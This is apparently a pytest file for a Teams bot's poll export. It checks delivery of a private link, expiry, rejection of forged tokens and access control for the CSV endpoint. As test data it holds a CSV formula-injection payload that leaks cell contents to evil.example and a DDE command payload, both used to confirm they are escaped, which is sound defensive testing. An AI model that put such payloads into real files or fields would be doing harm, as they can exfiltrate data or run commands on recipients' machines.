"""日程調整 エクスポート through the real HTTP endpoint: a coordinator asks in the channel, the
link arrives in their personal chat only, and the CSV behind it opens in Excel with Japanese
intact and staff's formulas defused; after 15 minutes, or tampered with, the link is dead."""

from __future__ import annotations

import csv
import io
import re
from datetime import timedelta
from urllib.parse import quote, urlsplit

from sqlalchemy import select

from storage.db import Database
from storage.models import AuditEntry
from tests.app.test_polls import answer_activity, open_poll
from tests.fakes.connector import FakeConnector, Posted
from tests.fixtures.app import RunningBot
from tests.fixtures.connector import HANAKO, JIRO, TARO, Activities, TeamsUser

EXPORT = "日程調整 エクスポート"
HOSTILE_COMMENT = '=HYPERLINK("http://evil.example/?leak="&A1,"詳細はこちら")'
MALLORY = TeamsUser(
    "=1+cmd|' /C calc'!A0", "29:1user0666-mallory", "aad00000-0000-4000-8000-000000000666", "m@x"
)


def personal_messages(connector: FakeConnector) -> list[Posted]:
    """What reached a 1:1 chat the bot opened with someone."""
    chats = {c.conversation_id for c in connector.created if not c.is_group}
    return [p for p in connector.sent if p.conversation_id in chats]


def link_path(message: Posted) -> str:
    found = re.search(r"\((https?://[^)\s]+/exports/[^)\s]+)\)", message.text or "")
    assert found, message.text
    return urlsplit(found.group(1)).path


async def answered_poll(bot: RunningBot, activities: Activities, connector: FakeConnector) -> None:
    """TARO's poll (12/10, 12/15, 12/17), answered by HANAKO, JIRO and someone with a hostile
    name; posted cards and confirmations are 2 messages in the channel."""
    post = await open_poll(bot, activities, connector)
    for answer in (
        answer_activity(activities, post, HANAKO, choice_1="onsite", comment=HOSTILE_COMMENT),
        answer_activity(activities, post, JIRO, choice_2="no", choice_3="online"),
        answer_activity(activities, post, MALLORY, choice_1="maybe"),
    ):
        assert (await bot.send(answer)).status == 200


async def test_a_coordinator_gets_the_csv_link_in_their_personal_chat(
    bot: RunningBot, activities: Activities, connector: FakeConnector, database: Database
) -> None:
    await answered_poll(bot, activities, connector)

    await bot.send(activities.channel_message(EXPORT, from_=TARO))

    sent = await connector.wait_for_sent(4)
    [notice] = [p for p in sent[2:] if p.conversation_id.startswith(activities.team.id)]
    assert "個人チャットにリンクを送りました（15分有効）" in (notice.text or "")
    assert "/exports/" not in (notice.text or "")  # the link itself never goes to the channel
    [chat] = [c for c in connector.created if not c.is_group]
    assert [m["id"] for m in chat.members] == [TARO.teams_id]
    [link] = personal_messages(connector)
    assert "第2回IYO WORK" in (link.text or "")
    assert "11/26(木) 10:15 まで" in (link.text or "")

    response = await bot.client.get(link_path(link))
    content = await response.read()

    assert response.status == 200
    assert response.headers["Content-Type"] == "text/csv; charset=utf-8"
    assert response.headers["Cache-Control"] == "no-store"
    assert response.headers["X-Content-Type-Options"] == "nosniff"
    disposition = response.headers["Content-Disposition"]
    assert disposition.startswith("attachment;")
    assert 'filename="poll_1_20261126.csv"' in disposition
    assert "filename*=UTF-8''" + quote("日程調整_第2回IYO WORK_20261126.csv") in disposition
    assert content.startswith(b"\xef\xbb\xbf")
    assert b"\r\n" in content
    rows = list(csv.reader(io.StringIO(content.decode("utf-8-sig"), newline="")))
    assert rows == [
        ["名前", "12/10(木)", "12/15(火)", "12/17(木)", "コメント", "回答日時"],
        ["今治 花子", "○ 現地", "", "", "'" + HOSTILE_COMMENT, "2026-11-26 10:00"],
        ["宇和島 次郎", "", "× 不可", "○ オンライン", "", "2026-11-26 10:00"],
        ["'" + MALLORY.name, "△ 未定", "", "", "", "2026-11-26 10:00"],
    ]

    # Who asked for what and when, and who downloaded it.
    async with database.transaction() as session:
        entries = (await session.scalars(select(AuditEntry).order_by(AuditEntry.id))).all()
    exports = [e for e in entries if e.action.startswith("export.")]
    assert [(e.action, e.actor_key) for e in exports] == [
        ("export.link", TARO.aad_object_id),
        ("export.download", TARO.aad_object_id),
    ]
    assert exports[0].detail["subject_id"] == "1"
    assert exports[1].detail["link_id"] == exports[0].id


async def test_the_link_dies_after_fifteen_minutes_and_a_forged_one_never_works(
    bot: RunningBot, activities: Activities, connector: FakeConnector
) -> None:
    await answered_poll(bot, activities, connector)
    await bot.send(activities.channel_message(EXPORT, from_=TARO))
    await connector.wait_for_sent(4)
    [link] = personal_messages(connector)
    path = link_path(link)
    token = path.rsplit("/", 1)[1]
    payload, stamp, signature = token.rsplit(".", 2)
    other_poll = payload[:6] + ("A" if payload[6] != "A" else "B") + payload[7:]

    bot.clock.advance(timedelta(minutes=14))
    assert (await bot.get(path)).status == 200

    for forged in (f"{other_poll}.{stamp}.{signature}", f"{payload}.{stamp}.{'A' * 27}", "x"):
        refused = await bot.get(f"/exports/{forged}")
        assert refused.status == 404
        assert "このリンクは無効です" in refused.body

    bot.clock.advance(timedelta(minutes=2))
    expired = await bot.get(path)
    assert expired.status == 410
    assert (
        "リンクの有効期限（15分）が切れました。もう一度エクスポートしてください。" in expired.body
    )
    assert "This link has expired" in expired.body


async def test_someone_who_is_not_a_coordinator_gets_no_link(
    bot: RunningBot, activities: Activities, connector: FakeConnector, database: Database
) -> None:
    await answered_poll(bot, activities, connector)

    await bot.send(activities.channel_message(EXPORT, from_=HANAKO))

    [_, _, refusal] = await connector.wait_for_sent(3)
    assert "コーディネーター" in (refusal.text or "")
    assert personal_messages(connector) == []
    async with database.transaction() as session:
        actions = (await session.scalars(select(AuditEntry.action))).all()
    assert "export.link" not in actions


async def test_in_the_personal_chat_the_link_comes_as_the_answer(
    bot: RunningBot, activities: Activities, connector: FakeConnector
) -> None:
    await answered_poll(bot, activities, connector)

    await bot.send(activities.personal_message("poll export", from_=TARO, locale="en-US"))

    [_, _, answer] = await connector.wait_for_sent(3)
    assert answer.conversation_id == f"a:1personal-{TARO.aad_object_id}"
    response = await bot.client.get(link_path(answer))
    rows = list(csv.reader(io.StringIO((await response.read()).decode("utf-8-sig"))))
    assert rows[0] == ["Name", "Thu 12/10", "Tue 12/15", "Thu 12/17", "Comment", "Answered at"]
    assert rows[1][1] == "○ On site"
    assert "Poll_" in response.headers["Content-Disposition"]


async def test_a_poll_is_named_by_number_and_a_missing_one_is_said_so(
    bot: RunningBot, activities: Activities, connector: FakeConnector
) -> None:
    await answered_poll(bot, activities, connector)

    await bot.send(activities.personal_message(f"{EXPORT} 2", from_=TARO))
    [*_, missing] = await connector.wait_for_sent(3)
    assert "「2」に当たる日程調整が見つかりませんでした" in (missing.text or "")

    await bot.send(activities.personal_message(f"{EXPORT} #1", from_=TARO))
    [*_, found] = await connector.wait_for_sent(4)
    assert "/exports/" in (found.text or "")


async def test_a_coordinator_without_polls_is_told_there_is_nothing_to_export(
    bot: RunningBot, activities: Activities, connector: FakeConnector
) -> None:
    await bot.send(activities.channel_message(EXPORT, from_=TARO))

    [answer] = await connector.wait_for_sent(1)
    assert "エクスポートできる日程調整がありません" in (answer.text or "")
